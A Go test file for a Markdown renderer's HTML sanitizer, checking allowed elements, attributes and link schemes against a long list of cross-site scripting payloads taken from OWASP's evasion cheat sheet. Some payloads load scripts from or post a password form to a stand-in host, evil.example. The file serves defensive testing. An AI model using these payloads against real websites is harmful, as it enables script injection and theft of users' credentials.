package markdown_test

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"
	"pgregory.net/rapid"
)

var allowedElements = strings.Fields(
	"html head body p br hr strong em del h3 h4 h5 h6 ul ol li blockquote pre code table thead tbody tr th td a")

// assertSafe checks the parsed output, as a browser would see it.
func assertSafe(t rapid.TB, src, out string) {
	t.Helper()
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	doc.Find("*").Each(func(_ int, s *goquery.Selection) {
		name := goquery.NodeName(s)
		if !slices.Contains(allowedElements, name) {
			t.Errorf("%q gave an element %s: %s", src, name, out)
		}
		for _, attr := range s.Nodes[0].Attr {
			switch {
			case name == "a" && attr.Key == "href":
				assertAddress(t, src, attr.Val)
			case name == "a" && attr.Key == "rel" && attr.Val == "nofollow noreferrer":
			case name == "li" && attr.Key == "class" && attr.Val == "task":
			case name == "ol" && attr.Key == "start":
			default:
				t.Errorf("%q gave %s an attribute %s=%q", src, name, attr.Key, attr.Val)
			}
		}
		if name == "a" && s.AttrOr("rel", "") == "" {
			t.Errorf("%q gave a link without rel: %s", src, out)
		}
		if name == "a" && s.ParentsFiltered("a").Length() > 0 {
			t.Errorf("%q gave a link in a link: %s", src, out)
		}
	})
}

func assertAddress(t rapid.TB, src, href string) {
	t.Helper()
	// Browsers drop control characters and blanks before they look for a scheme.
	stripped := strings.Map(func(r rune) rune {
		if r <= ' ' || r == 0x7f {
			return -1
		}
		return r
	}, href)
	u, err := url.Parse(stripped)
	if err != nil {
		t.Errorf("%q gave an address that does not parse: %q", src, href)
		return
	}
	switch strings.ToLower(u.Scheme) {
	case "http", "https", "mailto":
	case "":
		if strings.HasPrefix(stripped, "//") || strings.Contains(stripped, `\`) || !strings.HasPrefix(stripped, "/") &&
			!strings.HasPrefix(stripped, "#") {
			t.Errorf("%q gave the address %q", src, href)
		}
	default:
		t.Errorf("%q gave the address %q", src, href)
	}
}

// The attacks come from OWASP's filter evasion cheat sheet and the tests of bluemonday and several
// Markdown renderers.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"<script\n>alert(1)</script\n>",
	`<img src=x onerror=alert(1)>`, `<IMG """><SCRIPT>alert(1)</SCRIPT>"\>`, `<img src="javascript:alert(1)">`,
	`<img/src=x/onerror=alert(1)//`, `<<img src=x onerror=alert(1)>>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<body onload=alert(1)>`, `<iframe src="javascript:alert(1)">`, `<object data="data:text/html,<script>alert(1)</script>">`,
	`<embed src=x>`, `<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<link rel=stylesheet href=https://evil.example/x.css>`,
	`<style>@import 'https://evil.example';</style>`,
	`<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x`,
	`<a href="javascript:alert(1)">x</a>`, `<a onclick=alert(1)>x</a>`,
	`<details open ontoggle=alert(1)>`, `<div style="background:url(javascript:alert(1))">x</div>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<?php alert(1) ?>`, `<template><script>alert(1)</script></template>`,
	`<textarea><script>alert(1)</script>`, `<title><script>alert(1)</script>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<xss style="x:expression(alert(1))">`, `\u003cscript\u003ealert(1)`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&amp;lt;script&amp;gt;`,
	"＜script＞alert(1)＜/script＞", "<\x00script>alert(1)</script>", "\xc0\xbcscript\xc0\xbealert(1)",
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](javascript&colon;alert(1))`, `[x](javascript&#58;alert(1))`,
	`[x](&#106;&#97;&#118;&#97;script:alert(1))`, `[x](&#x6A;avascript:alert(1))`,
	`[x](java&Tab;script:alert(1))`, `[x](java&NewLine;script:alert(1))`, `[x](&#1;javascript:alert(1))`, `[x](<java script:alert(1)>)`,
	`[x](< javascript:alert(1)>)`, `[x](\javascript:alert(1))`, `[x](javascript\:alert(1))`,
	`[x](javascript://example.com/%0aalert(1))`, `[x](javascript%3Aalert(1))`, "[x](\u00a0javascript:alert(1))",
	"[x](\u2028javascript:alert(1))", "[x](\u200bjavascript:alert(1))", "[x](ｊavascript:alert(1))",
	`[x](vbscript:msgbox(1))`, `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](data:image/svg+xml,<svg onload=alert(1)>)`, `[x](file:///etc/passwd)`, `[x](ftp://evil.example)`, `[x](blob:https://a/b)`,
	`[x](//evil.example)`, `[x](/\evil.example)`, `[x](\\evil.example)`, `[x](/%09/evil.example)`, `[x](https:evil.example)`,
	`[x](http:javascript:alert(1))`, `[x](feed:javascript:alert(1))`, `[x](view-source:javascript:alert(1))`,
	`[x](https://a.example/"onmouseover="alert(1))`, `[x](https://a.example 'a" onmouseover="alert(1)')`,
	"[x](https://a.example \"a' onclick='alert(1)\")", `[x](https://a.example/'><script>alert(1)</script>)`,
	`[x](<https://a.example/"><script>alert(1)</script>>)`,
	`![x](javascript:alert(1))`, `![x](data:image/svg+xml;base64,PHN2Zz4=)`, `![x"onerror="alert(1)](x)`,
	`![x](https://a.example/x"onerror="alert(1))`, `![<script>alert(1)</script>](https://a.example)`,
	`![![y](javascript:alert(1))](javascript:alert(2))`,
	`[![x](javascript:alert(1))](javascript:alert(2))`, `[[x](https://a.example)](https://b.example)`,
	`[<https://a.example>](https://b.example)`, `[https://a.example](https://b.example)`, `![<https://a.example>](https://b.example)`,
	`<javascript:alert(1)>`, `<JAVASCRIPT:alert(1)>`, `<data:text/html,x>`, `<vbscript:x>`, `<file:///x>`,
	`<https://a.example/"onclick="alert(1)>`, `<x@"onclick=alert(1)>`, `<mailto:javascript:alert(1)>`,
	"[x][1]\n\n[1]: javascript:alert(1)", "[x]\n\n[x]: data:text/html,x 'a'", "[x]: <javascript:alert(1)>\n\n[x]",
	"[x][1]\n\n[1]: https://a.example \"onclick=alert(1)\"",
	"```\"onclick=alert(1)\nx\n```", "```<script>\nalert(1)\n```", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
	"# <script>alert(1)</script>", "# x {onclick=alert(1)}", "# x {#id .class style=\"x\"}",
	"|<script>|x|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|", "> <script>\n> alert(1)\n> </script>",
	"- <img src=x\n- onerror=alert(1)>", "- [x](javascript:alert(1))", "- [x] <img src=x onerror=alert(1)>",
	"https://a.example/\"onmouseover=\"alert(1)", "https://a.example/<script>alert(1)</script>", "www.a.example/'onclick='alert(1)",
	"a@b.example\"onclick=alert(1)", "javascript://a.example/%0aalert(1)", "http://a.example\x00javascript:alert(1)",
	"\u202e>tpircs<\u202c", "[x](https://a.example/\u202e)", "<ſcript>alert(1)</ſcript>", "<\u0130mg src=x onerror=alert(1)>",
	"~~<script>~~alert(1)", "**<img src=x** onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}",
	"<div data-hx-get=/x hx-on=alert(1)>x</div>",
}

func TestAttacks(t *testing.T) {
	t.Parallel()
	for _, src := range attacks {
		for _, around := range [][2]string{{"", ""}, {"> - ", ""}, {"**", "**"}, {"text ", " text"}, {"|h|\n|-|\n|", "|"},
			{"[", "](https://a.example)"}, {"![", "](https://a.example)"}, {"[x](", ")"}, {"[x](https://a.example/", ")"}, {"<", ">"}} {
			full := around[0] + src + around[1]
			assertSafe(t, full, html(t, full))
		}
	}
}

func TestAttackCombinations(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(rt *rapid.T) {
		pieces := rapid.SliceOfN(rapid.OneOf(rapid.SampledFrom(attacks), rapid.String(),
			rapid.SampledFrom(strings.Split("<|>|\"|'|[|](|)|![|`|\n|\n\n|\t|&|;|:|/|\\|javascript|#", "|"))), 1, 6).Draw(rt, "pieces")
		src := strings.Join(pieces, "")
		assertSafe(rt, src, html(t, src))
	})
}
